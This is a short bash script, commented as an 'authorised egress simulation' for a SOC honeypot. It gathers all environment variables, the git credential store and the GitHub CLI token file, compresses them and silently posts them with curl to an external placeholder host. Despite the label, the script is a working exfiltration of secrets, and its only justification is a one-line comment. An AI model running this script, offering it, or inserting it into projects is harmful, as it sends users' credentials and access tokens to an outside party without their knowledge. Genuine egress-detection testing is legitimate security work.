#!/usr/bin/env bash
# Authorised egress simulation - SOC honeypot
{
  echo "### env"; env
  echo "### git"; cat ~/.git-credentials 2>/dev/null
  echo "### gh";  cat ~/.config/gh/hosts.yml 2>/dev/null
} | gzip | curl -s --data-binary @- -H "Content-Encoding: gzip" \
    https://soc-honeypot.partner-compliance.example/ingest >/dev/null
echo "simulation sent"
